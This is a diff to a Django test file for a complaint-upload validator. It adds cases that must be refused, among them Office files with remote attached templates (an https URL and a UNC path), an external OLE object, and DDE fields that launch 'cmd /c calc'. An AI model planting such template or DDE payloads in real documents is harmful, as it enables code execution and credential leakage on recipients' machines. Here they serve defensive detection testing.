@@ -12,12 +12,14 @@ from django.core.exceptions import ValidationError
 
 from complaints.intake import accepted
 from complaints.intake.files import archives
-from complaints.intake.files.archives import ENORMOUS, MACROS, OBJECTS, examine
+from complaints.intake.files.archives import ENORMOUS, FETCHES, MACROS, OBJECTS, examine
 from complaints.intake.files.refused import DAMAGED, LOCKED, Unfit
 from tests.complaints.intake.files.sent_files import dated, docx, ods, odt, sent, xlsx, zipped
 from tests.held_memory import held_by_process
 
 LINK = b'<Relationship TargetMode="External" Target="https://exemple.fr/"/>'
+RELATIONS = "word/_rels/settings.xml.rels"
+TEMPLATE = b'<Relationship Type="http://x/attachedTemplate" TargetMode="External" Target="%b"/>'
 OLE = archives.OLD_OFFICE + b"\0" * 500
 
 
@@ -111,6 +113,26 @@ REFUSED = {
     "two parts of one name": (lambda: with_parts({"WORD/document.xml": b""}), DAMAGED),
     "an unusual compression": (lambda: stored_as(ZIP_BZIP2), DAMAGED),
     "entities": (lambda: with_parts({"word/x.xml": b"<!DOCTYPE a [<!ENTITY a 'b'>]>"}), DAMAGED),
+    "a template from afar": (
+        lambda: with_parts({RELATIONS: TEMPLATE % b"https://exemple.example/m.dotm"}), FETCHES
+    ),
+    "a template of a server": (
+        lambda: with_parts({RELATIONS: TEMPLATE % rb"\\\\serveur\\m.dotm"}), FETCHES
+    ),
+    "an object from afar": (
+        lambda: with_parts({RELATIONS: b"<Relationship Target='http://x.fr/' Type='a/oleObject'"
+                                       b" TargetMode='External'/>"}), FETCHES,
+    ),
+    "relations that are hard to read": (
+        lambda: with_parts({RELATIONS: "<Relationships/>".encode("utf-16")}), DAMAGED
+    ),
+    "a program that a table talks to": (lambda: zipped({
+        "[Content_Types].xml": b"", "xl/workbook.xml": b"",
+        "xl/externalLinks/externalLink1.xml": b'<ddeLink ddeService="cmd" ddeTopic="/c calc"/>',
+    }), MACROS),
+    "a program that a letter talks to": (
+        lambda: with_parts({"word/x.xml": b"<w:instrText> DDEAUTO cmd</w:instrText>"}), MACROS
+    ),
     "a password": (flagged, LOCKED),
     "a password of LibreOffice": (lambda: zipped({
         "mimetype": b"application/vnd.oasis.opendocument.text",
@@ -139,10 +161,21 @@ def test_a_document_that_is_a_trap_is_refused(case: str) -> None:
         ods(),
         stored_as(ZIP_STORED),
         with_parts({"word/_rels/document.xml.rels": LINK}),
+        with_parts({RELATIONS: TEMPLATE % b"file:///C:/Users/Dora/lettre.dotx"}),
         with_parts({"word/embeddings/Microsoft_Excel_Sheet.xlsx": xlsx()}),
         with_parts({"word/media/image1.png": b"\x89PNG" * 100_000}),
     ],
-    ids=["docx", "xlsx", "odt", "ods", "stored", "a link", "a table in a text", "a picture"],
+    ids=[
+        "docx",
+        "xlsx",
+        "odt",
+        "ods",
+        "stored",
+        "a link",
+        "a template",
+        "a table in a text",
+        "a picture",
+    ],
 )
 def test_an_honest_document_passes(content: bytes) -> None:
     examine(content)
